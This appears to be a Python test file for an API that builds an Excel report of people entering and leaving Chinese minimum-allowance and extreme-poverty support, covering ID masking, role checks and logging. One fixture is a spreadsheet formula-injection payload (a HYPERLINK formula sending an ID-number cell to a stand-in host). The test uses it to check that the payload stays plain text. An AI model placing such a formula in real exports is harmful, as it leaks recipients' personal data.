"""新纳入和退出低保、特困人员分类梳理表 (``api.period_report``): the workbook built from
hand-made movements, and ``GET /api/ledgers/movements.xlsx`` on a served synthetic county."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from api.period_report import period_bounds, period_report_workbook, report_summary
from api.reviews import DecisionError
from models.movements import Movement
from tests.api.served import client

START, END = date(2019, 6, 1), date(2019, 11, 30)
TITLE = "2019年6月1日至2019年11月30日新纳入和退出低保、特困人员分类梳理表"
HOSTILE = '=HYPERLINK("http://x.invalid/?"&E5,"详情")'
LIST_HEADERS = ["序号", "乡镇", "村组", "姓名", "身份证号码", "救助类型", "低保类别", "救助证号"]
MASKED = re.compile(r"^\d{6}\*{11}[\dX]$")


def _movement(direction, program, day, township, record_id, reason, *, name="张三",
              id_number="532326195001011234"):  # fmt: skip
    return Movement(direction, program, day, township, "东村", f"C-{record_id}", record_id,
                    f"p-{record_id}", name, id_number, "A" if program == "dibao" else None,
                    reason, f"依据 {record_id}")  # fmt: skip


MOVEMENTS = [
    _movement("entry", "dibao", date(2019, 7, 1), "城关", "A1", "收入低于标准", name=HOSTILE),
    _movement("entry", "tekun", date(2019, 9, 1), "城关", "A2", "转自低保"),
    _movement("exit", "dibao", date(2019, 8, 31), "城关", "A3", "转入特困"),
    _movement("exit", "dibao", date(2019, 10, 3), "石羊", "A4", "死亡"),
    _movement("exit", "类型不明", date(2019, 11, 30), "石羊", "A5", "原因未记录"),
]


def _book(content: bytes):
    return load_workbook(io.BytesIO(content))


def _values(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_the_workbook_has_the_summary_and_the_two_lists_under_the_title():
    content = period_report_workbook(MOVEMENTS, START, END, masked=False, unit="某县民政局",
                                     made=date(2019, 12, 5))  # fmt: skip
    book = _book(content)
    assert book.sheetnames == ["汇总", "新纳入名单", "退出名单", "不足及改进措施"]
    for sheet in book.worksheets:
        rows = _values(sheet)
        assert rows[0][0] == TITLE
        assert rows[1][0] == "填报单位：某县民政局　　填报时间：2019年12月5日"
        assert rows[2][0].startswith("说明：原因据各登记册数据推断，需核实")
    assert all(sheet.freeze_panes == "A5" for sheet in book.worksheets[:3])
    summary = _values(book["汇总"])
    assert summary[3] == ("乡镇", "低保新纳入", "低保退出", "特困新纳入", "特困退出",
                          "类型不明新纳入", "类型不明退出", "新纳入：转自低保",
                          "新纳入：收入低于标准", "退出：死亡", "退出：转入特困",
                          "退出：原因未记录")  # fmt: skip
    assert summary[4:] == [("城关", 1, 1, 1, 0, 0, 0, 1, 1, 0, 1, 0),
                           ("石羊", 0, 1, 0, 0, 0, 1, 0, 0, 1, 0, 1),
                           ("合计", 1, 2, 1, 0, 0, 1, 1, 1, 1, 1, 1)]  # fmt: skip
    entries = _values(book["新纳入名单"])
    assert list(entries[3]) == [*LIST_HEADERS, "纳入日期", "原因（据数据推断）", "依据", "记录编号"]
    assert entries[4] == (1, "城关", "东村", HOSTILE, "532326195001011234", "低保", "A", "C-A1",
                          datetime(2019, 7, 1), "收入低于标准", "依据 A1", "A1")  # fmt: skip
    assert book["新纳入名单"]["I5"].number_format == "yyyy-mm-dd"  # a date cell, not text
    assert book["新纳入名单"].column_dimensions["I"].width >= 12  # shown whole, not ########
    assert [row[0] for row in entries[4:]] == [1, 2]
    exits = _values(book["退出名单"])
    assert exits[3][8] == "退出日期"
    assert [(row[1], row[5], row[9]) for row in exits[4:]] == [
        ("城关", "低保", "转入特困"), ("石羊", "低保", "死亡"), ("石羊", "类型不明", "原因未记录")]  # fmt: skip


def test_a_name_that_looks_like_a_formula_stays_text():
    content = period_report_workbook(MOVEMENTS, START, END, masked=False)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist()
                  if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]  # fmt: skip
    assert len(sheets) == 4
    assert not [sheet for sheet in sheets if "<f>" in sheet or "<f " in sheet]
    cell = _book(content)["新纳入名单"]["D5"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)


def test_id_numbers_are_masked_for_those_who_may_not_see_them():
    masked = _book(period_report_workbook(MOVEMENTS, START, END, masked=True))
    full = _book(period_report_workbook(MOVEMENTS, START, END, masked=False))
    for name in ("新纳入名单", "退出名单"):
        shown = [row[4] for row in _values(masked[name])[4:]]
        assert shown and all(value == "532326***********4" for value in shown)
        assert all(row[4] == "532326195001011234" for row in _values(full[name])[4:])
        assert "身份证号码已部分隐去" in _values(masked[name])[2][0]
    assert "532326195001011234" not in str(_values(masked["汇总"]))


def test_a_case_number_holding_an_id_in_the_basis_is_masked_too():
    # 转自低保: the basis names the other roster row's 救助证号, made of DB and an ID, and a
    # day (a text: its day is masked as a birth date is)
    basis = "救助对象记录 A9（低保，救助证号 DB532326195601016870）终止日期 2019-08-31"
    moved = [replace(MOVEMENTS[1], case_no="DB532326195601016870", basis=basis)]
    masked = _values(_book(period_report_workbook(moved, START, END, masked=True))["新纳入名单"])
    full = _values(_book(period_report_workbook(moved, START, END, masked=False))["新纳入名单"])
    assert full[4][10] == basis
    assert masked[4][7] == "DB532326***********0"
    assert (
        masked[4][10] == "救助对象记录 A9（低保，救助证号 DB532326***********0）终止日期 2019-**-**"
    )
    assert "195601016870" not in str(masked)


def test_no_movements_give_the_headers_alone():
    book = _book(period_report_workbook([], START, END, masked=True))
    assert _values(book["汇总"])[3:] == [("乡镇", "低保新纳入", "低保退出", "特困新纳入",
                                          "特困退出")]  # fmt: skip
    assert len(_values(book["新纳入名单"])) == 4 and len(_values(book["退出名单"])) == 4


def test_the_summary_line_counts_each_program_and_says_the_reasons_are_inferred():
    text = report_summary(MOVEMENTS, START, END)
    assert text == ("2019-06-01至2019-11-30：新纳入 低保 1 人、特困 1 人；退出 低保 2 人、特困 0 人；"
                    "救助类型不明 1 人次。原因据数据推断，需核实。")  # fmt: skip


@pytest.mark.parametrize(
    ("first", "last", "expected"),
    [
        ("2019-06", "2019-11", (date(2019, 6, 1), date(2019, 11, 30))),
        ("2019-06-15", "2019-06-15", (date(2019, 6, 15), date(2019, 6, 15))),
        ("2019-12", "2020-2", (date(2019, 12, 1), date(2020, 2, 29))),
    ],
)
def test_a_period_is_months_or_days(first, last, expected):
    assert period_bounds(first, last) == expected


@pytest.mark.parametrize(
    ("first", "last", "said"),
    [
        ("2019-13", "2019-12", "起始日期“2019-13”无法识别"),
        ("2019-06", "2019-13", "截止日期“2019-13”无法识别"),
        ("2025-01", "2026-00", "截止日期“2026-00”无法识别"),
        ("2019-06", "11月", "截止日期“11月”无法识别"),
        ("2019-02-30", "2019-03", "无法识别"),
        ("2019-11", "2019-06", "晚于截止日期"),
    ],
)
def test_a_bad_period_is_refused_in_chinese(first, last, said):
    with pytest.raises(DecisionError) as refused:
        period_bounds(first, last)
    assert refused.value.kind == "invalid" and said in refused.value.message


PERIOD = {"from": "2020-01-01", "to": "2026-12-31"}  # the synthetic county's years
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.slow
def test_reviewers_download_the_period_report_masked_by_role_and_logged(county):
    with client(county, "analyst") as analyst, client(county, "auditor") as auditor:
        masked = analyst.get("/api/ledgers/movements.xlsx", params=PERIOD)
        full = auditor.get("/api/ledgers/movements.xlsx", params=PERIOD)
        assert auditor.get("/api/ledgers/deceased_paid.xlsx").status_code == 200  # not shadowed
    for response in (masked, full):
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == XLSX
        assert "attachment" in response.headers["content-disposition"]
    analyst_rows = _values(_book(masked.content)["新纳入名单"])[4:]
    auditor_rows = _values(_book(full.content)["新纳入名单"])[4:]
    assert analyst_rows and len(analyst_rows) == len(auditor_rows)
    shown = [row[4] for row in analyst_rows if row[4]]
    assert shown and all(MASKED.match(value) for value in shown)
    assert any(re.fullmatch(r"\d{17}[\dX]", row[4] or "") for row in auditor_rows)
    assert _values(_book(full.content)["汇总"])[0][0] == (
        "2020年1月1日至2026年12月31日新纳入和退出低保、特困人员分类梳理表")  # fmt: skip
    total = sum(len(_values(_book(full.content)[name])) - 4 for name in ("新纳入名单", "退出名单"))
    with client(county, "admin") as admin:
        entries = admin.get("/api/access-log", params={"limit": 50}).json()["items"]
    logged = {(e["actor"], e["action"], e["target"]) for e in entries}
    target = f"movements 2020-01-01~2026-12-31 {total}行"
    assert ("analyst-1", "download_ledger", target) in logged
    assert ("auditor-1", "download_ledger", target) in logged


@pytest.mark.slow
def test_a_bad_period_is_a_422_and_other_roles_are_refused(county):
    with client(county, "auditor") as auditor:
        backwards = auditor.get("/api/ledgers/movements.xlsx",
                                params={"from": "2020-02-01", "to": "2020-01-31"})  # fmt: skip
        unreadable = auditor.get("/api/ledgers/movements.xlsx",
                                 params={"from": "2020-13-01", "to": "2020-12-31"})  # fmt: skip
        missing = auditor.get("/api/ledgers/movements.xlsx", params={"from": "2020-01-01"})
    assert backwards.status_code == 422 and "晚于截止日期" in backwards.json()["detail"]
    assert unreadable.status_code == 422 and missing.status_code == 422
    for role in ("consumer", "admin"):
        with client(county, role) as http:
            assert http.get("/api/ledgers/movements.xlsx", params=PERIOD).status_code == 403


def test_the_workbook_carries_the_documents_other_items_for_the_office_to_write():
    """报送内容包括……分类及原因分析、……不足及薄弱环节、下一步改进措施: the last two, which no
    registry tells, are headed sections the office fills, the document quoted above them."""
    book = _book(period_report_workbook(MOVEMENTS, START, END, masked=False))
    texts = [row[0] for row in _values(book["不足及改进措施"]) if row and row[0]]
    assert "存在的不足及薄弱环节、下一步改进措施" in texts[3] and "由本单位填写" in texts[3]
    assert texts[4:] == ["一、农村低保政策落实特别是“应保尽保”方面存在的不足及薄弱环节",
                         "（由本单位填写）", "二、下一步改进措施", "（由本单位填写）"]  # fmt: skip
